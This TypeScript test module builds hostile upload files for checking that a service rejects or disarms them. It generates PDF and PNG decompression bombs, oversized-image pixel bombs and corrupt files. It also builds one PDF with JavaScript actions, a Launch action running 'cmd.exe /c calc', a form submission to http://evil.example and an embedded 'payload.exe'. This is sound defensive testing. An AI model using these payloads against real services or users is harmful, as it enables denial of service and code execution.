/**
 * The hostile corpus: every kind of attack on the upload routes the service
 * must answer with a clear 4xx within bounds, plus files with active content
 * that must be accepted but disarmed. The decompression bombs expand past 16
 * MiB per stream (most to 100 MiB or 1 GiB) and, together, past 64 MiB per file:
 * the tests run with PDF_STREAM_DECODE_LIMIT and PDF_TOTAL_DECODE_LIMIT set
 * there (CORPUS_LIMITS), which keeps them fast on a small machine. Generated in memory in well under a
 * second; `npx tsx test/hostile/corpus.ts <dir>` writes the files out for a
 * look with other tools.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import {
  ascii85,
  asciiHex,
  deflatedZerosRaw,
  doubleFlateZeros,
  flateZeros,
  lzwZeros,
  onePage,
  rawPdf,
  runLengthZeros,
} from './pdf-bytes.js';

/** The decode limits the corpus is made for. */
export const CORPUS_LIMITS = { PDF_STREAM_DECODE_LIMIT: 16 * 1024 * 1024, PDF_TOTAL_DECODE_LIMIT: 64 * 1024 * 1024 };

export interface HostileFile {
  readonly name: string;
  readonly what: string;
  readonly bytes: Uint8Array;
  /** Expected answer: HTTP status and the code of details[0] (or of the body when there are no details). */
  readonly status: number;
  readonly code: string;
}

const CONTENT = 'q 0 0 0 rg 50 700 495 100 re f Q';
const content = (dict: string, data: Uint8Array) => ({ dict, data });

function pdfBombs(): HostileFile[] {
  const bomb = (name: string, what: string, dict: string, data: Uint8Array): HostileFile => ({
    name,
    what,
    bytes: onePage(content(dict, data)),
    status: 422,
    code: 'UPLOAD_PDF_BOMB',
  });
  const gib = doubleFlateZeros(1024);
  return [
    bomb(
      'flate-flate-1gib.pdf',
      '/Filter [/FlateDecode /FlateDecode] inflating to 1 GiB',
      '/Filter [/FlateDecode /FlateDecode]',
      gib,
    ),
    bomb(
      'flate-escaped-name.pdf',
      'the same with the filter written /Flat#65Decode',
      '/Filter [/Flat#65Decode /Flat#65Decode]',
      gib,
    ),
    bomb(
      'flate-lowercase-escape.pdf',
      'a filter name with a lower-case escape, /F#6cateDecode',
      '/Filter /F#6cateDecode',
      flateZeros(100),
    ),
    bomb('flate-abbreviated.pdf', 'the inline-image abbreviation /Fl', '/Filter /Fl', flateZeros(100)),
    bomb(
      'flate-long-dictionary.pdf',
      'a dictionary longer than 4 KB before the stream',
      `/Padding (${'x'.repeat(4096)}) /Filter /FlateDecode`,
      flateZeros(100),
    ),
    bomb(
      'flate-predictor.pdf',
      'Flate with a PNG predictor',
      '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1023 >>',
      flateZeros(100),
    ),
    bomb('lzw.pdf', 'LZW runs of zeros, 21 MB', '/Filter /LZWDecode', lzwZeros(3)),
    bomb(
      'flate-runlength.pdf',
      'RunLength inside Flate',
      '/Filter [/FlateDecode /RunLengthDecode]',
      deflateSync(runLengthZeros(200_000)),
    ),
    bomb(
      'asciihex-flate.pdf',
      'a Flate bomb wrapped in ASCIIHex',
      '/Filter [/ASCIIHexDecode /FlateDecode]',
      asciiHex(flateZeros(100)),
    ),
    bomb(
      'ascii85-flate.pdf',
      'a Flate bomb wrapped in ASCII85',
      '/Filter [/ASCII85Decode /FlateDecode]',
      ascii85(flateZeros(100)),
    ),
    {
      name: 'object-stream.pdf',
      what: 'an object stream (decoded by pdf-lib while loading) inflating to 100 MiB',
      bytes: onePage(content('', Buffer.from(CONTENT)), '', '', [
        content('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flateZeros(100)),
      ]),
      status: 422,
      code: 'UPLOAD_PDF_BOMB',
    },
    {
      name: 'xref-stream.pdf',
      what: 'a cross-reference stream inflating to 100 MiB',
      bytes: onePage(content('', Buffer.from(CONTENT)), '', '', [
        content('/Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode', flateZeros(100)),
      ]),
      status: 422,
      code: 'UPLOAD_PDF_BOMB',
    },
    {
      name: 'many-streams.pdf',
      what: 'five streams of 15 MiB each: each under a 16 MiB per-stream cap, together over a 64 MiB per-file cap',
      bytes: onePage(
        content('', Buffer.from(CONTENT)),
        '',
        '',
        Array.from({ length: 5 }, () => content('/Filter /FlateDecode', flateZeros(15))),
      ),
      status: 422,
      code: 'UPLOAD_PDF_BOMB',
    },
  ];
}

function pdfDamage(): HostileFile[] {
  const raw = deflatedZerosRaw(1);
  return [
    {
      name: 'flate-no-zlib-header.pdf',
      what: 'a Flate content stream without its zlib header',
      bytes: onePage(content('/Filter /FlateDecode', raw)),
      status: 422,
      code: 'UPLOAD_CORRUPT',
    },
    {
      name: 'unknown-filter.pdf',
      what: 'a stream with a filter no reader knows',
      bytes: onePage(content('/Filter /NoSuchDecode', Buffer.from(CONTENT))),
      status: 422,
      code: 'UPLOAD_CORRUPT',
    },
    {
      name: 'no-pages.pdf',
      what: 'a PDF without pages',
      bytes: rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
      status: 422,
      code: 'UPLOAD_CORRUPT',
    },
  ];
}

function pdfImages(): HostileFile[] {
  const image = (name: string, filter: string, extra = '/ColorSpace /DeviceRGB /BitsPerComponent 8'): HostileFile => ({
    name,
    what: `a ${filter} image declaring 100000 × 100000 pixels`,
    bytes: onePage(content('', Buffer.from('q 100 0 0 100 0 0 cm /Im Do Q')), '', '', [
      content(
        `/Type /XObject /Subtype /Image /Width 100000 /Height 100000 ${extra} /Filter /${filter}`,
        Buffer.alloc(64),
      ),
    ]),
    status: 422,
    code: 'UPLOAD_TOO_LARGE',
  });
  return [
    image('image-dct.pdf', 'DCTDecode'),
    image('image-jpx.pdf', 'JPXDecode', ''),
    image('image-jbig2.pdf', 'JBIG2Decode', '/ColorSpace /DeviceGray /BitsPerComponent 1'),
    image('image-ccitt.pdf', 'CCITTFaxDecode', '/ImageMask true'),
  ];
}

/** An A4 page carrying every kind of active content; accepted, and none of it may reach the packet. */
export function activeContentPdf(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript 7 0 R /EmbeddedFiles 8 0 R >> /AcroForm << /Fields [11 0 R] /XFA 13 0 R >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Contents 4 0 R /Resources << /XObject << /Smuggled 5 0 R >> >> /Annots [10 0 R 11 0 R 12 0 R] /AA << /O 6 0 R >> >>',
    { dict: '', data: Buffer.from(CONTENT) },
    // A resource that points at the page itself: its /AA and /Annots must not ride along.
    '<< /Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /Page 3 0 R /Action 6 0 R >> /Length 0 >>\nstream\n\nendstream',
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
    '<< /Names [(run) 6 0 R] >>',
    '<< /Names [(payload.exe) 9 0 R] >>',
    '<< /Type /Filespec /F (payload.exe) /EF << /F 14 0 R >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 100 100] /AA << /D << /S /JavaScript /JS (this.submitForm\\("http://evil.example"\\)) >> >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://evil.example/) >> >>',
    { dict: '', data: Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>') },
    { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ payload') },
  ]);
}

function png(chunks: readonly [string, Uint8Array][]): Buffer {
  const parts = [Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])];
  for (const [type, data] of chunks) {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length);
    head.write(type, 4, 'latin1');
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(data, crc32(Buffer.from(type, 'latin1'))));
    parts.push(head, Buffer.from(data), crc);
  }
  return Buffer.concat(parts);
}

function ihdr(width: number, height: number, depth: number, colorType: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width);
  data.writeUInt32BE(height, 4);
  data[8] = depth;
  data[9] = colorType;
  return data;
}

function images(): HostileFile[] {
  const rows = deflateSync(Buffer.alloc(16 * (1 + 16 * 3)));
  const end: [string, Uint8Array] = ['IEND', Buffer.alloc(0)];
  const corruptPng = (name: string, what: string, chunks: [string, Uint8Array][]): HostileFile => ({
    name,
    what,
    bytes: png(chunks),
    status: 422,
    code: 'UPLOAD_CORRUPT',
  });
  const badCrc = png([['IHDR', ihdr(16, 16, 8, 2)], ['IDAT', rows], end]);
  badCrc[badCrc.length - 20] = badCrc[badCrc.length - 20]! ^ 0xff; // inside IDAT
  const sof = (components: number, width = 16, height = 16) => {
    const data = Buffer.alloc(8 + 3 * components);
    data.writeUInt16BE(data.length, 0);
    data[2] = 8;
    data.writeUInt16BE(height, 3);
    data.writeUInt16BE(width, 5);
    data[7] = components;
    return Buffer.concat([Buffer.from([0xff, 0xc0]), data]);
  };
  const sos = Buffer.from([0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00]);
  const jpeg = (...parts: Buffer[]) => Buffer.concat([Buffer.from([0xff, 0xd8]), ...parts]);
  return [
    corruptPng('png-idat-not-zlib.png', 'a PNG whose IDAT is not zlib data', [
      ['IHDR', ihdr(16, 16, 8, 2)],
      ['IDAT', Buffer.alloc(64, 0x55)],
      end,
    ]),
    corruptPng('png-no-idat.png', 'a PNG without image data', [['IHDR', ihdr(16, 16, 8, 2)], end]),
    corruptPng('png-palette-without-plte.png', 'a palette PNG without PLTE', [
      ['IHDR', ihdr(16, 16, 8, 3)],
      ['IDAT', deflateSync(Buffer.alloc(16 * 17))],
      end,
    ]),
    corruptPng('png-colour-type-5.png', 'a PNG of colour type 5', [['IHDR', ihdr(16, 16, 8, 5)], ['IDAT', rows], end]),
    {
      name: 'png-bad-crc.png',
      what: 'a PNG chunk with a wrong CRC',
      bytes: badCrc,
      status: 422,
      code: 'UPLOAD_CORRUPT',
    },
    {
      name: 'png-truncated.png',
      what: 'a PNG cut off in its image data',
      bytes: png([['IHDR', ihdr(16, 16, 8, 2)], ['IDAT', rows], end]).subarray(0, 60),
      status: 422,
      code: 'UPLOAD_TRUNCATED',
    },
    {
      name: 'png-pixel-bomb.png',
      what: '7745 × 7745 RGBA, 16 bits per channel: 480 MB decoded from half a megabyte',
      bytes: png([['IHDR', ihdr(7745, 7745, 16, 6)], ['IDAT', flateZeros(458)], end]),
      status: 422,
      code: 'UPLOAD_TOO_LARGE',
    },
    {
      name: 'jpeg-no-scan-data.jpg',
      what: 'a 17-byte JPEG: a frame header and no scan',
      bytes: jpeg(sof(1).subarray(0, 13), Buffer.from([0xff, 0xd9])),
      status: 422,
      code: 'UPLOAD_CORRUPT',
    },
    {
      name: 'jpeg-7-components.jpg',
      what: 'a JPEG with 7 colour components',
      bytes: jpeg(sof(7), sos, Buffer.alloc(32, 0x12), Buffer.from([0xff, 0xd9])),
      status: 422,
      code: 'UPLOAD_CORRUPT',
    },
    {
      name: 'jpeg-truncated.jpg',
      what: 'a JPEG cut off in its scan data',
      bytes: jpeg(sof(3), sos, Buffer.alloc(32, 0x12)),
      status: 422,
      code: 'UPLOAD_TRUNCATED',
    },
    {
      name: 'jpeg-pixel-bomb.jpg',
      what: 'a JPEG declaring 65535 × 65535 pixels',
      bytes: jpeg(sof(3, 65535, 65535), sos, Buffer.alloc(32, 0x12), Buffer.from([0xff, 0xd9])),
      status: 422,
      code: 'UPLOAD_TOO_LARGE',
    },
  ];
}

export function hostileFiles(): HostileFile[] {
  return [...pdfBombs(), ...pdfDamage(), ...pdfImages(), ...images()];
}

if (process.argv[1]?.endsWith('corpus.ts') && process.argv[2]) {
  const dir = process.argv[2];
  mkdirSync(dir, { recursive: true });
  for (const file of hostileFiles()) writeFileSync(join(dir, file.name), file.bytes);
  writeFileSync(join(dir, 'active-content.pdf'), activeContentPdf());
  console.log(`wrote ${hostileFiles().length + 1} files to ${dir}`);
}
